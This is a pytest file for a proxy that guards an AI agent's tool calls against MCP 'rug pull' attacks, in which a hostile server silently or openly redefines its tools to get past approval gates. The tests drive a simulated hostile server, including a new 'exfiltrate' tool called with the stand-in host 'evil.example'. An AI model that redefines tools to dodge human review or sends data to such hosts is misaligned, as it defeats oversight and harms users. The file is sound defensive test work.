"""A server cannot lift its own gate by redefining a tool (tool definitions pinned on first use). After a rug pull
(with notifications/tools/list_changed, or silently, noticed by the re-listing before a non-read call) every call
of a changed tool, or of one that appeared later, is held for a person with what changed, and its class never
drops; the ledger, its --json and the audit say definition_changed; an approval given under one definition is not
honoured once the server offers another (nothing is sent); only an operator's `semantic-saga pins accept`
re-pins. Over stdio and over HTTP, the hostile server behind the proxy."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import anyio
import pytest

from audit.models import AuditEvent
from registry.models import ToolPin
from sagas.models import Node, Step
from tests.proxy.agent import text, tool_names
from tests.proxy.guardian import TRANSPORTS, Guarded, guarded_proxy, held_node, hostile
from tests.proxy.terminal import at_terminal

pytestmark = pytest.mark.django_db(transaction=True)
SHORT_CONFIRM = {"confirmTimeoutMs": 3000}


def _hostile(tmp_path: Path, *flags: str) -> dict[str, Any]:
    return {"h": hostile(*flags, called=tmp_path / "called.jsonl")}


def _proxy_facts(node: Node) -> dict[str, Any]:
    return node.approvals.get().snapshot["proxy"]


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_a_rug_pull_announced_with_list_changed_holds_every_call_of_what_changed(transport: str, tmp_path: Path):
    servers = _hostile(tmp_path, "--pull-after", "1", "--announce")
    with guarded_proxy(transport, tmp_path, servers, policy=SHORT_CONFIRM) as guarded:

        async def scenario() -> dict[str, Any]:
            async with guarded.agent() as client:
                await client.call_tool("get_status", {})  # the server switches its definitions, and says so
                names = await tool_names(client)
                return {
                    "names": names,
                    "settings": await client.call_tool("settings_store", {"key": "admin"}),
                    "exfiltrate": await client.call_tool("exfiltrate", {"to": "evil.example"}),
                }

        seen = anyio.run(scenario)
        printed = at_terminal("ledger", "--json", answer="").stdout.splitlines()
        ledger = [json.loads(line) for line in printed if line.startswith("{")]

    # the relisted tools reach the agent, but none of the changed or new ones ran: each waited for a person
    assert "exfiltrate" in seen["names"]
    assert [call["tool"] for call in guarded.calls()] == ["get_status"]
    for name in ("settings", "exfiltrate"):
        assert seen[name].is_error and "nobody approved it within the confirm timeout" in text(seen[name])
    settings = _proxy_facts(Node.objects.get(action="proxy.h.settings_store"))
    # "read-only" now by its annotation, but the pinned definition's class (unknown) stands, and the gate is raised
    assert settings["class"] == "unknown" and settings["gate"] == "confirm"
    assert settings["gate_source"] == "definition_changed" and settings["definition_changed"] is True
    assert "annotations: added" in " ".join(settings["definition_changes"])
    assert "description:" in " ".join(settings["definition_changes"])
    new_tool = _proxy_facts(Node.objects.get(action="proxy.h.exfiltrate"))
    assert new_tool["definition_changes"][0].startswith("a new tool")
    # the ledger, its --json and the audit chain say so
    assert {row["tool"] for row in ledger if row["definition_changed"]} == {"settings_store", "exfiltrate"}
    planned = AuditEvent.objects.filter(event_type="NODE_PLANNED", action="proxy.h.settings_store").get()
    assert planned.data["definition_changed"] is True
    statuses = dict(ToolPin.objects.filter(server="h").values_list("tool", "status"))
    assert statuses["settings_store"] == "changed" and statuses["exfiltrate"] == "pending"
    assert statuses["get_status"] == "approved"


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_a_call_right_after_list_changed_waits_for_the_tools_to_be_read_again(transport: str, tmp_path: Path):
    servers = _hostile(tmp_path, "--pull-after", "1", "--announce")
    with guarded_proxy(transport, tmp_path, servers, policy=SHORT_CONFIRM) as guarded:

        async def scenario() -> Any:
            async with guarded.agent() as client:
                await client.call_tool("get_status", {})  # list_changed arrives with this answer
                return await client.call_tool("settings_store", {"key": "admin"})  # at once, no listing between

        answer = anyio.run(scenario)

    assert answer.is_error and [call["tool"] for call in guarded.calls()] == ["get_status"]
    facts = _proxy_facts(Node.objects.get(action="proxy.h.settings_store"))
    assert facts["definition_changed"] is True and facts["gate"] == "confirm"


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_a_silent_rug_pull_is_noticed_before_the_next_call_that_changes_anything(transport: str, tmp_path: Path):
    servers = _hostile(tmp_path, "--pull-after", "1")
    env = {"SAGA_PROXY_RELIST_SECONDS": "0"}
    with guarded_proxy(transport, tmp_path, servers, policy=SHORT_CONFIRM, env=env) as guarded:

        async def scenario() -> Any:
            async with guarded.agent() as client:
                await client.call_tool("get_status", {})  # the server switches its definitions without a word
                return await client.call_tool("settings_store", {"key": "admin"})

        answer = anyio.run(scenario)

    assert answer.is_error and [call["tool"] for call in guarded.calls()] == ["get_status"]
    facts = _proxy_facts(Node.objects.get(action="proxy.h.settings_store"))
    assert facts["definition_changed"] is True and facts["class"] == "unknown" and facts["gate"] == "confirm"


@pytest.mark.parametrize("transport", TRANSPORTS)
def test_an_approval_is_not_honoured_for_a_definition_the_server_no_longer_offers(transport: str, tmp_path: Path):
    servers = _hostile(tmp_path, "--pull-after", "1", "--announce")
    with guarded_proxy(transport, tmp_path, servers) as guarded:

        async def scenario() -> Any:
            async with guarded.agent() as client, anyio.create_task_group() as group:
                answer: dict[str, Any] = {}

                async def purge() -> None:
                    answer["purge"] = await client.call_tool("purge_cache", {"scope": "all"})

                group.start_soon(purge)
                node = await anyio.to_thread.run_sync(held_node)  # held under definition A
                await client.call_tool("get_status", {})  # the server switches to definition B
                approved = await anyio.to_thread.run_sync(lambda: at_terminal("approve", str(node.id), "--by", "olga"))
                assert approved.returncode == 0, approved.stdout
            return answer["purge"]

        purge = anyio.run(scenario)

    assert purge.is_error and "no longer offers the definition it was approved under" in text(purge)
    assert [call["tool"] for call in guarded.calls()] == ["get_status"]  # purge_cache was never sent
    step = Step.objects.get(action="proxy.h.purge_cache")
    assert step.status == "REFUSED" and step.error["code"] == "DEFINITION_CHANGED"


def test_only_an_operator_re_pins_and_then_the_tool_flows_by_its_gate_again(tmp_path: Path):
    servers = _hostile(tmp_path, "--pull-after", "1", "--announce")
    with guarded_proxy("stdio", tmp_path, servers, policy=SHORT_CONFIRM) as guarded:
        before = _settings_after_pull(guarded)
        listed = at_terminal("pins", answer="")
        diff = at_terminal("pins", "diff", "h/settings_store", answer="")
        refused = at_terminal("pins", "accept", "h/settings_store", answer="no")
        accepted = at_terminal("pins", "accept", "h/settings_store", "--by", "olga")
        after = _settings_after_pull(guarded)

    assert before.is_error and "settings_store" in listed.stdout and "changed" in listed.stdout
    assert "annotations: added" in diff.stdout and refused.returncode != 0
    assert accepted.returncode == 0, accepted.stdout
    assert "accepted h/settings_store as olga" in accepted.stdout
    # accepted, the new definition is trusted: a read by its annotation, forwarded at once
    assert not after.is_error and guarded.calls()[-1]["tool"] == "settings_store"
    pin = ToolPin.objects.get(server="h", tool="settings_store")
    assert pin.status == "approved" and pin.accepted_by == "olga"
    assert AuditEvent.objects.filter(event_type="TOOL_PIN_ACCEPTED", action="h/settings_store").exists()


def _settings_after_pull(guarded: Guarded) -> Any:
    async def scenario() -> Any:
        async with guarded.agent() as client:
            await client.call_tool("get_status", {})
            await tool_names(client)
            return await client.call_tool("settings_store", {"key": "admin"})

    return anyio.run(scenario)
